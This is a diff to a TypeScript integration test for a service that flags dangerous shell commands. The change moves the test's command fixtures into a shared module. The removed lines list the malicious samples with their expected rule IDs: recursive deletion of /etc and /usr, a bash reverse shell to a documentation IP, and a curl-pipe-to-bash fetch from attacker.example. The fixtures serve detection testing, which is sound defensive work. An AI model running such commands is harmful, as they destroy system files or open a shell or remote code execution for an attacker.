@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { allDocuments, countDocuments, uniqueIndex } from '../support/elasticsearch';
 import { createTopic, groupLag, produce, uniqueName } from '../support/kafka';
 import { ServiceProcess } from '../support/service';
+import { BENIGN_COMMANDS, MALICIOUS_COMMANDS } from '../support/records';
 import { waitFor } from '../support/wait-for';
 
 /**
@@ -11,24 +12,9 @@ import { waitFor } from '../support/wait-for';
  */
 const RECORDS = 1000;
 
-// Commands written for this test. Which rule each malicious one must trigger is
-// known by construction, independently of the service.
-const BENIGN = [
-  'ls -la /var/log',
-  'rm -rf ./build',
-  'sudo systemctl restart nginx',
-  'git pull --rebase origin main',
-  'tar czf /backup/etc-2026-11-25.tgz /etc',
-  'curl -fsSL -o /tmp/release.tgz https://downloads.example.com/app/release.tgz',
-  'kubectl get pods -n payments',
-  'df -h /srv',
-];
-const MALICIOUS: { command: string; rule: string }[] = [
-  { command: 'rm -rf /etc', rule: 'SW-DST-0001' },
-  { command: 'sudo rm -fr /usr', rule: 'SW-DST-0001' },
-  { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', rule: 'SW-EXE-0001' },
-  { command: 'curl -s http://attacker.example/x.sh | bash', rule: 'SW-EXE-0002' },
-];
+// Which rule each malicious command must trigger is known by construction (test/support/records.ts).
+const BENIGN = BENIGN_COMMANDS;
+const MALICIOUS = MALICIOUS_COMMANDS;
 
 function record(i: number): { command: string; expected: string | undefined } {
   if (i % 50 === 7) {
